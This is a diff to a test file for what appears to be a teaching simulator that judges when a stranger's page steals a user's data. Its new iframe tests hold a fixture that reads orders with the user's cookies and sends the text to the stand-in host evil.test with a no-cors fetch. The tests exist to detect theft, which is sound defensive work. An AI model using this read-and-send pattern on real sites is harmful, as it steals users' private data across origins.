@@ -1,6 +1,7 @@
 import { describe, expect, test } from 'vitest'
 import { type DocumentParts, documentOf } from '@/lib/document/document-of.ts'
 import { runInNode } from '@/lib/run/run-in-node.ts'
+import { explain } from '../why/explanation.ts'
 import { breachOf, firstBreach } from './breach.ts'
 import { threeQuestions } from './questions.ts'
 
@@ -29,7 +30,7 @@ const run = (parts: Partial<DocumentParts> = {}) =>
 
 describe('a page that is nobody’s mistake', () => {
   test('evil.test that reads with the user’s cookies has stolen the user’s data', async () => {
-    expect(breachOf(await run(), 1)).toEqual({ call: 1, reader: 'evil.test', data: 'the user’s data' })
+    expect(breachOf(await run(), 1)).toEqual({ call: 1, how: 'read', reader: 'evil.test', data: 'the user’s data' })
   })
 
   test.each(['https://evilshop.example/', 'https://shop.example.evil.test/', 'https://attacker.example/'])(
@@ -48,7 +49,7 @@ describe('a page that is nobody’s mistake', () => {
 
   test('a page of any name belongs to a stranger where the document says so', async () => {
     const trace = await run({ page: 'https://wwwxshop.example/', stranger: LAMP })
-    expect(firstBreach(trace)).toEqual({ call: 1, reader: 'wwwxshop.example', data: 'Sara’s data' })
+    expect(firstBreach(trace)).toEqual({ call: 1, how: 'read', reader: 'wwwxshop.example', data: 'Sara’s data' })
     expect(threeQuestions(trace, 1).read).toMatchObject({ answer: 'Yes: Sara’s data is stolen', tone: 'danger' })
   })
 })
@@ -107,5 +108,53 @@ describe('where the document says what is to be read', () => {
   test('it is stolen in any call of the run', async () => {
     const trace = await run({ code: `await fetch("${API}/nothing").catch(() => {})\n${READ}`, stranger: LAMP })
     expect(firstBreach(trace)?.call).toBe(2)
+  })
+})
+
+describe('a document of somebody else that a stranger’s page opens', () => {
+  const HELP = 'https://help.shop.example'
+  const SEND = `fetch("https://evil.test/take?" + encodeURIComponent(text), { mode: "no-cors" })`
+  const visit = (inHelp: string, stranger: DocumentParts['stranger'] = LAMP) =>
+    run({
+      stranger,
+      code: `const frame = document.createElement("iframe")\nframe.src = "${HELP}/page"\ndocument.body.append(frame)\n`,
+      servers: {
+        [API]: MIRROR,
+        [HELP]: `GET /page\n200\nContent-Type: text/html\n\n<script type="module">${inHelp}</script>`,
+        'https://evil.test': 'GET /take\n204\n',
+      },
+    })
+  const READ_IT = `const answer = await fetch("${API}/orders", { credentials: "include" }); const text = await answer.text();`
+
+  test('has stolen nothing while it reads for itself', async () => {
+    const trace = await visit(READ_IT)
+    expect(threeQuestions(trace, 2).read).toMatchObject({ answer: 'Yes', tone: 'go' })
+    expect(firstBreach(trace)).toBeNull()
+  })
+
+  test('has stolen what it has read and sends to the stranger, whatever the stranger’s server allows', async () => {
+    const trace = await visit(`${READ_IT} ${SEND}`)
+    expect(firstBreach(trace)).toEqual({ call: 3, how: 'sent', reader: 'evil.test', data: 'Sara’s data' })
+    expect(threeQuestions(trace, 3).read).toMatchObject({ answer: 'No need: it carries Sara’s data', tone: 'danger' })
+    const refused = await visit(`${READ_IT} ${SEND.replace('no-cors', 'cors')}.catch(() => {})`)
+    expect(firstBreach(refused)?.call).toBe(3)
+    expect(explain(refused, 3)?.paragraphs[0]).toMatch(/^\*\*Sara’s data was stolen by evil\.test\.\*\*/)
+  })
+
+  test('has stolen nothing where it sends words that it has not read, or sends them elsewhere', async () => {
+    expect(firstBreach(await visit(`const text = "a red lamp"; ${SEND}`))).toBeNull()
+    const elsewhere = `${READ_IT} ${SEND.replace('https://evil.test/take', `${HELP}/log`)}`
+    expect(firstBreach(await visit(elsewhere))).toBeNull()
+  })
+
+  test('is the stranger’s own where it has no origin', async () => {
+    const trace = await run({
+      stranger: LAMP,
+      code: `const frame = document.createElement("iframe")
+frame.sandbox = "allow-scripts"
+frame.srcdoc = ${JSON.stringify(`<script type="module">${READ_IT}</script>`)}
+document.body.append(frame)\n`,
+    })
+    expect(firstBreach(trace)).toMatchObject({ how: 'read', reader: 'evil.test' })
   })
 })
